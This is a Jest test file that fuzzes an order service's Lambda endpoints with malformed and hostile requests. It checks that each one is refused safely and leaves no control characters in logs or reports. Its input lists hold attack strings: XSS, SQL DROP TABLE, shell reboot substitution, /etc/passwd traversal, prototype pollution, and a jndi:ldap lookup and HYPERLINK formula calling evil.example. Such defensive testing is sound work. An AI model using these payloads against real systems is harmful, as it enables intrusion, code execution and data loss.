import { beforeEach, describe, expect, test } from '@jest/globals'
import type { Context } from 'aws-lambda'
import type { HttpRequest } from '../../lambdas/runtime/caller.ts'
import { visible, visibleJson } from '../../ops/cli/format.ts'
import { reportJson, reportLines } from '../../ops/orders/order-report.ts'
import {
  at,
  httpRequest,
  lambdaContext,
  lanes,
  orderBody,
  orderId,
  orderIdAt,
  orderItem,
  routes,
} from '../builders.ts'
import { type AmendWorld, createAmendWorld } from './amend-world.ts'
import { environment } from './environment.ts'

Object.assign(process.env, environment)
const endpoints = {
  place: (await import('../../lambdas/create-order.ts')).createHandler,
  get: (await import('../../lambdas/get-order.ts')).createHandler,
  list: (await import('../../lambdas/list-orders.ts')).createHandler,
  correct: (await import('../../lambdas/correct-order.ts')).createHandler,
  cancel: (await import('../../lambdas/cancel-order.ts')).createHandler,
}
type Endpoint = keyof typeof endpoints
type Crafted = [what: string, endpoint: Endpoint, request: HttpRequest]
type Parts = NonNullable<Parameters<typeof httpRequest>[0]>

const own = { orderId }
const request = (parts: Parts, change: Partial<HttpRequest> = {}): HttpRequest => ({
  ...httpRequest({ path: own, ...parts }),
  ...change,
})
const bytes = (hex: string) =>
  request({}, { body: Buffer.from(hex, 'hex').toString('base64'), isBase64Encoded: true })
const { shippingAddress, customer } = orderBody
const body = (change: object) => request({ body: { ...orderBody, reference: 'crafted', ...change } })
const nested = (depth: number, open: string, close: string) => open.repeat(depth) + close.repeat(depth)

/** Malicious input, meant to be interpreted where it is shown, logged, stored or passed on. */
const hostileTexts: [string, string][] = [
  ['an escape sequence that clears the screen', '\u001b[2J\u001b[H'],
  ['an escape sequence that sets the title', '\u001b]0;owned\u0007'],
  ['a C1 control', '\u009b2J'],
  ['a null byte', 'a\u0000b'],
  ['a line break that forges advice', 'R-1\r\nWhat to do:\n  - nothing'],
  ['backspaces', 'bad\b\b\bgood'],
  ['a deletion', 'a\u007fb'],
  ['a bidi override', '\u202egnp.exe'],
  ['bidi isolates', '\u2066a\u2069'],
  ['a line separator', 'a\u2028b'],
  ['nothing but zero width', '\u200b\u200d\u2060'],
  ['invisible tags', 'a\u{e0041}\u{e0042}'],
  ['half a surrogate pair', 'a\ud800'],
  ['a noncharacter', 'a\ufffe'],
  ['a script', '<script>alert(1)</script>'],
  ['an entity', '&#x3c;img src=x onerror=alert(1)&#x3e;'],
  ['a formula', '=HYPERLINK("http://evil.example","x")'],
  ['a lookup of a logger', '$' + '{jndi:ldap://evil.example/a}'],
  ['a shell command', '$(reboot); `reboot` | reboot'],
  ['a query', "'; DROP TABLE orders; --"],
  ['a path', '../../../../etc/passwd'],
  ['a format string', '%s%n%x%%{{7*7}}'],
  ['a DynamoDB expression', 'attribute_not_exists(orderId) OR #a = :a'],
  ['many combining characters', `a${'\u0301'.repeat(90)}`],
]
const wrongTypes: [string, unknown][] = [
  ['a number', 7],
  ['true', true],
  ['a list', ['x']],
  ['an object', { $ne: null }],
  ['an attribute value of DynamoDB', { S: 'x' }],
]

const placed: Crafted[] = [
  ...hostileTexts.flatMap(([what, text]): Crafted[] => [
    [`${what} as the reference`, 'place', body({ reference: text })],
    [`${what} as the recipient`, 'place', body({ shippingAddress: { ...shippingAddress, name: text } })],
    [`${what} in metadata`, 'place', body({ metadata: { [text]: text } })],
  ]),
  ...wrongTypes.flatMap(([what, value]): Crafted[] => [
    [`${what} as the reference`, 'place', body({ reference: value })],
    [`${what} as the address`, 'place', body({ shippingAddress: value })],
    [`${what} as the items`, 'place', body({ items: value })],
    [
      `${what} as a price`,
      'place',
      body({ items: [{ ...orderItem, unitPrice: value === 7 ? '7' : value }] }),
    ],
    [`${what} as the metadata`, 'place', body({ metadata: value })],
  ]),
  ['no body', 'place', request({})],
  ['an empty body', 'place', request({ body: '' })],
  ['null', 'place', request({ body: 'null' })],
  ['a list', 'place', request({ body: '[]' })],
  ['a text', 'place', request({ body: '"order"' })],
  ['half a document', 'place', request({ body: '{"reference": "a' })],
  ['two documents', 'place', request({ body: '{}{}' })],
  ['lists in lists', 'place', request({ body: nested(60_000, '[', ']') })],
  ['objects in objects', 'place', request({ body: `${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}` })],
  ['metadata in metadata', 'place', request({ body: `{"metadata":${nested(60_000, '[', ']')}}` })],
  ['a key of 100,000 characters', 'place', body({ ['k'.repeat(100_000)]: 1 })],
  [
    '10,000 unknown keys',
    'place',
    body(Object.fromEntries(Array.from({ length: 10_000 }, (_, i) => [`k${i}`, 1]))),
  ],
  ['1,000 wrong items', 'place', body({ items: Array(1000).fill({}) })],
  ['a byte too many', 'place', request({ body: `"${'x'.repeat(128 * 1024 - 1)}"` })],
  ['a prototype', 'place', request({ body: '{"__proto__": {"reference": "a"}}' })],
  ['a prototype in metadata', 'place', request({ body: '{"metadata": {"__proto__": "a"}}' })],
  ['a constructor', 'place', body({ constructor: { prototype: { isAdmin: true } } })],
  [
    'a prototype as the address',
    'place',
    request({ body: '{"shippingAddress": {"__proto__": {"name": "a"}}}' }),
  ],
  ['one field twice', 'place', request({ body: '{"reference": "a", "reference": "b"}' })],
  ['an owner of its own choice', 'place', body({ ownerId: 'other' })],
  ['an order id of its own choice', 'place', body({ orderId: orderIdAt(1) })],
  ['a status of its own choice', 'place', body({ status: 'READY_FOR_FULFILLMENT' })],
  ['a total of its own choice', 'place', body({ total: 1 })],
  ['a price beyond all numbers', 'place', request({ body: '{"items": [{"unitPrice": 1e400}]}' })],
  [
    'amounts that overflow',
    'place',
    body({ items: Array(100).fill({ ...orderItem, quantity: 1_000_000, unitPrice: 1e12 }) }),
  ],
  ['a quantity of minus zero', 'place', body({ items: [{ ...orderItem, quantity: -0 }] })],
  ['a discount that makes money', 'place', body({ charges: [{ type: 'discount', amount: -1e12 }] })],
  [
    'an email with two addresses',
    'place',
    body({ customer: { ...customer, email: 'a@b.example,c@d.example' } }),
  ],
  [
    'an email with a header',
    'place',
    body({ customer: { ...customer, email: 'a@b.example\r\nBcc: c@d.example' } }),
  ],
  ['bytes that are no UTF-8', 'place', bytes('7b22ff22')],
  ['UTF-16', 'place', bytes('fffe7b007d00')],
  ['a gzip file', 'place', bytes('1f8b0800000000000003')],
  ['a body that is no base64', 'place', request({}, { body: '!!!', isBase64Encoded: true })],
  ['no content type', 'place', request({ body: orderBody }, { headers: {} })],
  ...['text/html', 'application/xml', 'application/json\u0000', 'multipart/form-data; boundary=x', ','].map(
    (type): Crafted => [
      `the content type ${JSON.stringify(type)}`,
      'place',
      request({ body: orderBody, headers: { 'content-type': type } }),
    ],
  ),
  ...['', '""', '"', '\u001b[2J', 'a b', 'ä', 'k'.repeat(256), '"\\"', '__proto__'].map(
    (key): Crafted => [
      `the key ${JSON.stringify(key.slice(0, 9))}`,
      'place',
      request({ body: orderBody, headers: { 'idempotency-key': key } }),
    ],
  ),
  ...['\u001b[2J', 'a\nb', 'c'.repeat(129), '{"a":1}'].map(
    (id): Crafted => [
      `the correlation id ${JSON.stringify(id.slice(0, 9))}`,
      'place',
      request({ body: orderBody, headers: { 'x-correlation-id': id } }),
    ],
  ),
  ...['00-0-0-0', 'ff-\u0000', '00-00000000000000000000000000000000-0000000000000000-01'].map(
    (trace): Crafted => [
      `the trace ${JSON.stringify(trace)}`,
      'place',
      request({ body: orderBody, headers: { traceparent: trace } }),
    ],
  ),
  ['no subject', 'place', request({ body: orderBody, sub: '' })],
  ['a subject of 256 characters', 'place', request({ body: orderBody, sub: 's'.repeat(256) })],
  ['an escape sequence as the client', 'place', request({ body: orderBody, clientId: '\u001b[2J' })],
]

const badIds = [
  '',
  'ord_',
  '__proto__',
  '../orders',
  '%00',
  `${orderId}\n`,
  `${orderId}0`,
  orderId.toUpperCase(),
  `ord_${'٣'.repeat(32)}`,
  '\u001b[2J',
  'x'.repeat(10_000),
  '*',
]
const named = (['get', 'cancel', 'correct'] as const).flatMap((endpoint): Crafted[] => [
  ...badIds.map(
    (id): Crafted => [
      `the id ${JSON.stringify(id.slice(0, 12))}`,
      endpoint,
      request({ path: { orderId: id }, body: {} }),
    ],
  ),
  ['no id', endpoint, request({ path: {}, body: {} })],
  ['an order of another shop', endpoint, request({ sub: 'other', body: { customer: { name: 'X' } } })],
  [
    'an order of a shop whose name begins the same',
    endpoint,
    request({ sub: 'sho', body: { customer: { name: 'X' } } }),
  ],
  [
    'no scopes at all',
    endpoint,
    {
      ...request({ sub: 'other', body: {} }),
      requestContext: {
        ...request({ sub: 'other' }).requestContext,
        authorizer: { principalId: '', integrationLatency: 0, jwt: { claims: { sub: 'other' }, scopes: [] } },
      },
    },
  ],
])

const cursor = (value: unknown) => Buffer.from(JSON.stringify(value) ?? '').toString('base64url')
const listed = [
  ...['0', '-1', '101', 'NaN', '1e9', '1.5', 'ten', '٣', '1;2'].map((limit) => ({ limit })),
  ...[
    '',
    '!',
    'null',
    cursor(null),
    cursor([]),
    cursor({}),
    cursor({ createdAt: '', orderId: '' }),
    cursor({ createdAt: at(), orderId: '\u001b[2J' }),
    cursor({ createdAt: 'x'.repeat(3000), orderId }),
    cursor({ createdAt: at(), orderId: { S: 'x' } }),
    'A'.repeat(10_000),
  ].map((each) => ({ cursor: each })),
].map((query): Crafted => [`the query ${JSON.stringify(query).slice(0, 60)}`, 'list', request({ query })])

const corrected: Crafted[] = (
  [
    ['null', null],
    ['a list', [1]],
    ['a text', 'x'],
    ['no customer', { customer: null }],
    ['no address', { shippingAddress: null }],
    ['another reference', { reference: 'B' }],
    ['another currency', { currency: 'USD' }],
    ['another price', { items: [{ ...orderItem, unitPrice: 1 }] }],
    ['fewer items', { items: [orderItem] }],
    ['items by index', { items: { 0: { sku: 'X' } } }],
    ['another owner', { ownerId: 'other' }],
    ['another status', { status: 'CANCELLED' }],
    ['a timeline', { timeline: [] }],
    ['an audit trail', { audit: [] }],
    ['a deadline', { expiresAt: 1 }],
    ['the length of a list', { items: { length: 0 } }],
    ...hostileTexts.slice(0, 14).map(([what, text]) => [what, { customer: { name: text } }]),
  ] as [string, unknown][]
).map(([what, patch]) => [`a correction with ${what}`, 'correct', request({ body: patch })])
corrected.push(
  [
    'a correction with a prototype',
    'correct',
    request({ body: '{"customer": {"__proto__": {"name": "X"}}}' }),
  ],
  [
    'a correction that is deep',
    'correct',
    request({ body: `${'{"customer":'.repeat(9000)}1${'}'.repeat(9000)}` }),
  ],
)

const crafted = [...placed, ...named, ...listed, ...corrected]

let world: AmendWorld
beforeEach(async () => {
  world = await createAmendWorld()
  await world.given()
})

/** Everything that a request has written or published. */
const traces = () => ({
  writes: world.db.calls.filter(({ action }) => /^(Put|Update|Delete)/.test(action)).length,
  events: world.published().length,
})

// biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not be there
const acting = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200e\u200f\u061c\u2028-\u202e\u2066-\u2069]/u

describe('a crafted request', () => {
  test('is one of at least 150', () => {
    expect(crafted.length).toBeGreaterThanOrEqual(150)
  })

  test.each(crafted)(
    '%s (%s) never fails us, never writes where it is refused, and never acts on a terminal',
    async (_, endpoint, event) => {
      const deps = { ...world.amendParts(), outboxShards: 16, routes, limits: {}, random: () => 0.5 }
      const context: Context = lambdaContext()

      const answer = await endpoints[endpoint](deps)(event, context)

      const status = answer.statusCode ?? 0
      expect(status).toBeGreaterThanOrEqual(200)
      expect(status).toBeLessThan(500)
      const shown = JSON.parse(answer.body ?? '')
      if (status >= 400) {
        expect(traces()).toEqual({ writes: 0, events: 0 })
        expect(answer.headers).toEqual({ 'content-type': 'application/problem+json' })
        expect(shown).toMatchObject({ type: 'about:blank', status })
      }
      // What an operator sees of it: the order, if there is one, as the tools print it, and every line of the log.
      const order = await world.stored(shown.orderId ?? orderId)
      const prod = { flags: ' --env prod', vendors: lanes, relayIntervalMs: 60_000 }
      const printed = [
        ...reportLines(order, prod, world.clock.now()).map(visible),
        visibleJson(reportJson(order, prod, world.clock.now())),
        ...world.record.lines.map(({ message, facts }) => JSON.stringify({ message, ...facts })),
      ]
      for (const line of printed) expect(line).not.toMatch(acting)
    },
  )
})
